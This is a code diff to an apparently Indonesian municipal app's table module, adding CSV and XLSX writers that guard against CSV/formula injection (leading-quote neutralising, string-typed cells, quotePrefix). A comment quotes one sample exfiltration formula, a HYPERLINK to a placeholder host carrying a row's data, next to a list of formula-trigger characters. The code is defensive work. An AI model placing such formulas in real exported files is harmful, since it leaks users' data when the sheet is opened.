@@ -15,6 +15,7 @@ import re
 from collections.abc import Iterable, Iterator
 from contextlib import contextmanager
 from dataclasses import asdict, dataclass, field
+from decimal import Decimal
 from pathlib import Path
 from typing import IO, Any
 
@@ -277,8 +278,159 @@ def open_table(
     return _csv_table(data, columns)
 
 
+# --- writing ------------------------------------------------------------------------------------
+# Every CSV and XLSX Malpro produces goes through the writers below, because their cells hold
+# text that people outside the city hall typed (business names, account names, addresses).
+#
+# CSV: a cell that starts with one of FORMULA_TRIGGERS is read by Excel, LibreOffice and Google
+# Sheets as a formula (`=HYPERLINK("http://x"&A1,"klik")` sends the row's data away). Such text
+# gets a leading single quote, as OWASP's "CSV Injection" page advises: the spreadsheet shows it
+# as text. Real numbers (int, float, Decimal: amounts, counts) are written as they are, so a
+# negative amount stays a number; a *text* that looks like "-5" is text and gets the quote.
+#
+# XLSX: every text cell is written as a string (data_type "s", an inline string), never as a
+# formula, whatever it starts with, and the cells that would have been formulas carry Excel's
+# "quotePrefix" flag so that editing them in Excel does not turn them into one. Characters XML
+# cannot hold (NUL and other control characters) are dropped instead of failing the export.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
+_NUMBER_TYPES = (int, float, Decimal)
+
+
+def neutralise(text: str) -> str:
+    """'=1+1' -> "'=1+1"; any other text unchanged."""
+    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text
+
+
+def _plain(value: object) -> object:
+    """A cell's value as a number (kept), text, or ""."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return _("ya") if value else _("tidak")
+    if isinstance(value, _NUMBER_TYPES):
+        return value
+    if isinstance(value, dt.datetime):
+        return value.isoformat()
+    if isinstance(value, dt.date):
+        return value.isoformat()
+    return str(value)
+
+
+def csv_cell(value: object) -> object:
+    value = _plain(value)
+    return neutralise(value) if isinstance(value, str) else value
+
+
+class CsvWriter:
+    """csv.writer with every text cell neutralised (see above)."""
+
+    def __init__(self, out: IO[str] | Any, **kwargs):
+        self._writer = csv.writer(out, **kwargs)
+
+    def writerow(self, row: Iterable[object]):
+        return self._writer.writerow([csv_cell(v) for v in row])
+
+    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+class _Echo:
+    def write(self, value):
+        return value
+
+
+BOM = "\ufeff"  # so Excel opens a UTF-8 file with the right characters
+
+
+def csv_stream(
+    header: list[str], rows: Iterable[Iterable[object]], *, bom: bool = True
+) -> Iterator[str]:
+    """The lines of a CSV, one at a time (for a StreamingHttpResponse)."""
+    writer = CsvWriter(_Echo())
+    if bom:
+        yield BOM
+    yield writer.writerow(header)
+    for row in rows:
+        yield writer.writerow(row)
+
+
+def csv_text(header: list[str], rows: Iterable[Iterable[object]], *, bom: bool = True) -> str:
+    return "".join(csv_stream(header, rows, bom=bom))
+
+
+def _sheet_title(title: str) -> str:
+    title = re.sub(r"[\[\]:*?/\\]", "-", _XML_ILLEGAL.sub("", str(title))).strip("'") or "Sheet"
+    return title[:31]
+
+
+class XlsxSheet:
+    def __init__(self, book: XlsxBook, sheet, text_format: bool):
+        self._book = book
+        self._sheet = sheet
+        self._text_format = text_format
+
+    def append(self, row: Iterable[object]) -> None:
+        self._sheet.append([self._cell(raw) for raw in row])
+
+    def _cell(self, raw: object):
+        from openpyxl.cell import WriteOnlyCell
+        from openpyxl.cell.cell import ERROR_CODES
+
+        value = _plain(raw)
+        forced = False
+        if isinstance(value, str):
+            value = _XML_ILLEGAL.sub("", value)
+            forced = value.startswith(FORMULA_TRIGGERS) or value in ERROR_CODES
+        if not (forced or self._text_format):
+            return value  # openpyxl writes other text as a string and numbers as numbers
+        cell = WriteOnlyCell(self._sheet)
+        if forced:
+            # Past openpyxl's value setter, which makes any text starting with "=" a formula.
+            cell._value, cell.data_type = value, "s"
+            cell.quotePrefix = True
+        else:
+            cell.value = value
+        if self._text_format:
+            cell.number_format = "@"
+        return cell
+
+
+class XlsxBook:
+    """A workbook written row by row (openpyxl's write-only mode) with safe cells."""
+
+    def __init__(self):
+        import openpyxl
+
+        self._workbook = openpyxl.Workbook(write_only=True)
+
+    def sheet(self, title: str, *, text_format: bool = False) -> XlsxSheet:
+        """A new sheet; text_format marks its cells as text ("@"), for templates people fill in
+        (so Excel keeps the leading zeros of NIK, NIB and phone numbers)."""
+        return XlsxSheet(self, self._workbook.create_sheet(_sheet_title(title)), text_format)
+
+    def to_bytes(self) -> bytes:
+        out = io.BytesIO()
+        self._workbook.save(out)
+        return out.getvalue()
+
+
+def xlsx_bytes(header: list[str], rows: Iterable[Iterable[object]], *, title: str) -> bytes:
+    """A one-sheet workbook."""
+    book = XlsxBook()
+    sheet = book.sheet(title)
+    sheet.append(header)
+    for row in rows:
+        sheet.append(row)
+    return book.to_bytes()
+
+
+XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+
 def write_issues_csv(issues: Iterable[RowIssue], out: IO[str]) -> None:
-    writer = csv.writer(out)
+    writer = CsvWriter(out)
     writer.writerow(["baris", "kolom", "tingkat", "pesan"])
     for issue in issues:
         level = _("galat") if issue.level == "error" else _("peringatan")
